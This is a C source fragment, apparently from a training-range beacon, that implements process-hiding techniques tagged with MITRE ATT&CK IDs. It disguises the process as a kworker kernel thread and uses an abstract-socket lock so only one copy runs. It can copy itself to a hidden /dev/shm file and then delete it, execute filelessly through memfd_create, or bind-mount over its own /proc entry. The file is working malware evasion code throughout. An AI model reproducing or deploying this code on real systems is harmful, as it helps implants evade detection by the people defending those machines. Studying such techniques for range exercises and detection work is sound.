/* How the beacon of a victim in the range hides: HIDE is plain, deleted, memfd or bind_mount (MITRE ATT&CK T1564, T1070.004, T1620).
 * Everything that it does ends with the victim's namespaces. */
#include <fcntl.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/un.h>

#define COPY "/dev/shm/.kworker-sync"

/* One of it is enough: an abstract socket name is taken once in a network namespace, and free again when its owner ends. */
static int alone(void)
{
    struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "\0kworker-sync"};
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    return fd >= 0 && !bind(fd, (void *)&name, offsetof(struct sockaddr_un, sun_path) + 13);
}

/* Copy this program into that descriptor and become the copy. */
static int become(int fd)
{
    char *words[] = {"[kworker/u8:2]", NULL}, *nothing[] = {NULL};
    struct stat size;
    int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (self < 0 || fd < 0 || fstat(self, &size) || sendfile(fd, self, NULL, size.st_size) != size.st_size)
        return 0;
    fchmod(fd, 0755);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int again = open(path, O_RDONLY | O_CLOEXEC);
    close(fd); /* who may still write a program may not run it */
    fexecve(again, words, nothing);
    return 0;
}

/* Is this the process that shall call home? A copy is, where the program hides by copying itself. */
static int hidden(void)
{
    char exe[256] = "", target[64];
    if (!alone() || readlink("/proc/self/exe", exe, sizeof exe - 1) < 0)
        return 0;
    prctl(PR_SET_NAME, "kworker-sync");
    if (!strcmp(HIDE, "deleted") && strncmp(exe, COPY, strlen(COPY)))
        return become(open(COPY, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0755));
    if (!strcmp(HIDE, "memfd") && strncmp(exe, "/memfd:", 7))
        return become(memfd_create("kworker-sync", MFD_CLOEXEC));
    if (!strcmp(HIDE, "deleted"))
        unlink(COPY);
    snprintf(target, sizeof target, "/proc/%d", getpid());
    return strcmp(HIDE, "bind_mount") || !mount("/mnt", target, NULL, MS_BIND, NULL);
}
